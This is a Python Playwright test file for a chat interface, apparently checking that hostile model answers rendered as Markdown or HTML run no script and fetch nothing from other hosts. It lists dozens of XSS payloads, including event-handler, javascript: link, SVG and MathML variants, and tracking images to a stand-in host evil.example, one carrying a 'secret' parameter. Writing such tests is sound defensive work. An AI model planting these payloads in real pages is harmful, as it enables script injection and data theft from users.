# ruff: noqa: E501 - an attack to a line
"""Answers that attack the page: nothing of them runs, loads or leads astray."""

from __future__ import annotations

import re

import pytest
from playwright.sync_api import Page, expect

from ...support.scripted_model import ScriptedModel, streams
from ...support.service import Service

EVIL = "http://evil.example"
HOSTILE: dict[str, str] = {
    "script": "<script>window.ran = 1</script>",
    "script from elsewhere": f'<script src="{EVIL}/x.js"></script>',
    "script in upper case": "<SCRIPT>window.ran = 1</SCRIPT >",
    "script in two": "<scr<script>ipt>window.ran = 1</scr</script>ipt>",
    "image with a handler": '<img src=x onerror="window.ran = 1">',
    "image of another host": f'<img src="{EVIL}/pixel.png">',
    "image in Markdown": f"![pixel]({EVIL}/pixel.png?secret=1)",
    "image by reference": f"![pixel][p]\n\n[p]: {EVIL}/pixel.png",
    "image in a link": f"[![pixel]({EVIL}/pixel.png)](javascript:window.ran=1)",
    "image set": f'<picture><source srcset="{EVIL}/a.png"><img srcset="{EVIL}/b.png 2x"></picture>',
    "SVG with a handler": '<svg onload="window.ran = 1"><circle r=9 /></svg>',
    "SVG with a script": "<svg><script>window.ran = 1</script></svg>",
    "SVG that uses another": f'<svg><use href="{EVIL}/x.svg#a"/><image href="{EVIL}/y.png"/></svg>',
    "SVG that animates a link": '<svg><a><animate attributeName=href values="javascript:window.ran=1"/><text>x</text></a></svg>',
    "MathML": '<math><mtext><table><mglyph><style><img src=x onerror="window.ran = 1">',
    "frame": f'<iframe src="{EVIL}/"></iframe><iframe srcdoc="<script>parent.ran = 1</script>"></iframe>',
    "object": f'<object data="{EVIL}/x.swf"></object><embed src="{EVIL}/y.swf">',
    "link to JavaScript": "[click](javascript:window.ran=1)",
    "link to JavaScript, disguised": "[click](java\tscript:window.ran=1) [click](&#106;avascript:window.ran=1) [c](\x01javascript:window.ran=1)",
    "link to JavaScript, in HTML": '<a href=" JaVaScRiPt:window.ran=1">click</a> <a href="vbscript:x">click</a>',
    "link to data": "[click](data:text/html,<script>window.ran=1</script>) <a href='data:text/html,x'>click</a>",
    "link by reference": "[click][1]\n\n[1]: javascript:window.ran=1 'title'",
    "automatic link": "<javascript:window.ran=1> <data:text/html,x>",
    "link with a handler": f'<a href="{EVIL}/" onclick="window.ran = 1" target="_top" ping="{EVIL}/ping">click</a>',
    "handlers without a click": '<b onfocus="window.ran = 1" tabindex=0 autofocus>x</b><details open ontoggle="window.ran = 1">',
    "style": f'<style>@import "{EVIL}/x.css"; body {{ background: url({EVIL}/y.png) }}</style><p style="background:url({EVIL}/z.png)">x',
    "link and meta": f'<link rel=stylesheet href="{EVIL}/x.css"><meta http-equiv=refresh content="0;url={EVIL}/"><base href="{EVIL}/">',
    "form": f'<form action="{EVIL}/"><input name=q autofocus><button>Send</button></form>',
    "media": f'<video src="{EVIL}/v.mp4" autoplay poster="{EVIL}/p.png"></video><audio src="{EVIL}/a.mp3" autoplay></audio>',
    "unclosed tags": '<div><b><i><a href="x"><table><tr><td><ul><li><img src=x onerror=window.ran=1',
    "unclosed comment": "<!-- <script>window.ran = 1</script>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=window.ran=1>">',
    "template": "<template><script>window.ran = 1</script></template><slot name=x></slot>",
    "names of the document": '<a id="message" name="status">x</a><img name="querySelector"><form id="composer"></form>',
    "code fence": '```"><img src=x onerror=window.ran=1>\n</code></pre><script>window.ran=1</script>\n```',
    "table": "| <img src=x onerror=window.ran=1> | a |\n|--|--|\n| <script>window.ran=1</script> | b |",
    "overrides of direction": "\u202egnp.exe\u202c and \u2066\u2067moc.live\u2069 [bank.example\u202e](http://evil.example)",
    "overrides as references": 'Safe &#x202E;moc.live &#8294; [bank&#x202e;x](https://example.com "t&#x2066;itle")',
    "a long line": "a" * 100_000,
    "a long line of marks": "*_`[<!" * 8_000,
    "many quotes": ">" * 5_000 + "x",
    "many brackets": "[" * 20_000,
    "many nested tags": "<b>" * 5_000 + "x",
    "a null and controls": "\x00<scri\x00pt>window.ran = 1</scri\x00pt>\x1b[31m",
}


GOOD_SCHEMES = ("http:", "https:", "mailto:", "tel:")


@pytest.mark.parametrize("answer", HOSTILE.values(), ids=HOSTILE.keys())
def test_runs_nothing_and_asks_nobody(
    page: Page, gunicorn: Service, model: ScriptedModel, console: list[str], requested: list[str], answer: str
) -> None:
    model.otherwise = streams(answer[: len(answer) // 2], answer[len(answer) // 2 :])
    page.goto(gunicorn.url)
    page.get_by_role("button", name="Who are you?").click()
    expect(page.locator(".turn")).to_have_attribute("data-state", "answered")
    for link in page.locator(".answer a").all():
        if link.get_attribute("href") is not None:
            assert link.evaluate("link => link.protocol") in GOOD_SCHEMES
        assert link.get_attribute("target") == "_blank"
        assert link.get_attribute("rel") == "noopener noreferrer nofollow"
    forbidden = "script, style, img, svg, iframe, object, embed, form, input, video, audio, link, meta, base, [style]"
    assert page.locator(".answer").locator(forbidden).count() == 0
    attributes = page.evaluate(
        "[...new Set([...document.querySelectorAll('.answer *')].flatMap(element => element.getAttributeNames()))]"
    )
    ours = {"data-language", "type", "aria-label", "dir", "lang"}  # of a block of code and its button
    assert set(attributes) <= {"href", "title", "start", "target", "rel", "tabindex", "class", *ours}
    assert not re.search("[\u202a-\u202e\u2066-\u2069]", page.locator(".answer").inner_html())
    page.wait_for_load_state("networkidle")
    assert all(url.startswith(f"{gunicorn.url}/") for url in requested)
    assert page.evaluate("window.ran") is None
    assert page.url == f"{gunicorn.url}/"
    assert not console
    page.get_by_label("Your message").fill("Still here?")
    page.get_by_role("button", name="Ask").click()
    expect(page.locator(".turn").nth(1)).to_have_attribute("data-state", "answered")


def test_good_markdown_is_kept(page: Page, gunicorn: Service, model: ScriptedModel) -> None:
    model.otherwise = streams(
        "# Title\n\nA [link](https://example.com/a?b=c#d), <ada@example.com>, *em* and `code`.\n\n"
        "3. three\n4. four\n\n> quote\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nx = '<b>'\n```"
    )
    page.goto(gunicorn.url)
    page.get_by_role("button", name="Who are you?").click()
    answer = page.locator(".answer")
    expect(page.locator(".turn")).to_have_attribute("data-state", "answered")
    expect(answer.get_by_role("link", name="link")).to_have_attribute("href", "https://example.com/a?b=c#d")
    expect(answer.get_by_role("link", name="ada@example.com")).to_have_attribute("href", "mailto:ada@example.com")
    expect(answer.locator("ol")).to_have_attribute("start", "3")
    expect(answer.locator("td")).to_have_text(["1", "2"])
    expect(answer.locator("pre")).to_have_text("x = '<b>'")
    expect(answer.locator(".heading")).to_have_text("Title")


# Each kept a tab busy for a second, the first for ten, and again with each piece that came.
TOO_MUCH = ["*a **b ", "*a", "> ", "- ", "1. a\n", "|a|\n|-|\n", "|a", "`a``b", "<b>", "[a](b" + " " * 500]


@pytest.mark.parametrize("part", TOO_MUCH)
def test_more_marks_than_anybody_writes_are_shown_as_they_are(
    page: Page, gunicorn: Service, model: ScriptedModel, part: str
) -> None:
    model.otherwise = streams((part * 20_000)[:20_000].strip())
    page.goto(gunicorn.url)
    page.get_by_role("button", name="Who are you?").click()
    expect(page.locator(".turn")).to_have_attribute("data-state", "answered")
    expect(page.locator(".answer .plain")).to_have_count(1)


def test_a_long_answer_with_many_lists_links_and_tables_is_drawn(
    page: Page, gunicorn: Service, model: ScriptedModel
) -> None:
    items = "\n".join(f"{number}. **Item** {number}: see [it](https://example.com)" for number in range(1, 101))
    rows = "\n".join("| *a* | `b` | c | d | e | f | g | h |" for _ in range(50))
    model.otherwise = streams(
        f"{items}\n\n|a|b|c|d|e|f|g|h|\n|-|-|-|-|-|-|-|-|\n{rows}\n\n" + "Some *words* here. " * 50
    )
    page.goto(gunicorn.url)
    page.get_by_role("button", name="Who are you?").click()
    expect(page.locator(".turn")).to_have_attribute("data-state", "answered")
    expect(page.locator(".answer li")).to_have_count(100)
    expect(page.locator(".answer tr")).to_have_count(51)
